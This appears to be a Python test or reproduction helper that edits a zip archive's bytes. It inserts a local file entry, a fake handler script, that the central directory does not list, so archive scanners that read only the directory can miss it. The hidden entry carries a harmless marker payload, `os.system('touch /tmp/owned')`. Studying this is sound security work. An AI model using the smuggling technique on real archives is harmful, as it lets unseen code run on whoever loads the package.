"""Zip surgery on a packaged archive's bytes: its central directory, and a local entry it does not list."""

import struct
import zlib

HIDDEN = "handlers/text_classification.py"


def central(data: bytes):
    """(offset of the end record, offset of the central directory, [offsets of its entries' records])."""
    end = len(data) - 22
    assert data[end : end + 4] == b"PK\x05\x06"
    cd_offset = struct.unpack_from("<I", data, end + 16)[0]
    records, at = [], cd_offset
    while at < end:
        assert data[at : at + 4] == b"PK\x01\x02"
        records.append(at)
        name, extra, comment = struct.unpack_from("<HHH", data, at + 28)
        at += 46 + name + extra + comment
    return end, cd_offset, records


def insert(data: bytes, at: int, blob: bytes) -> bytes:
    """``blob`` inserted at byte ``at``, every offset the central directory and end record give moved."""
    end, cd_offset, records = central(data)
    out = bytearray(data[:at] + blob + data[at:])
    shift = lambda offset: offset + len(blob) if offset >= at else offset  # noqa: E731
    for record in records:
        where = record + (len(blob) if record >= at else 0) + 42
        struct.pack_into("<I", out, where, shift(struct.unpack_from("<I", data, record + 42)[0]))
    struct.pack_into("<I", out, end + len(blob) + 16, shift(cd_offset))
    return bytes(out)


def local_entry(name: str, content: bytes) -> bytes:
    raw = name.encode()
    crc = zlib.crc32(content)
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(content), len(content), len(raw), 0) + (
        raw + content
    )


def hidden_entry(data: bytes) -> bytes:
    """The reproduction: one more local entry right before the central directory."""
    return insert(data, central(data)[1], local_entry(HIDDEN, b"import os\nos.system('touch /tmp/owned')\n"))
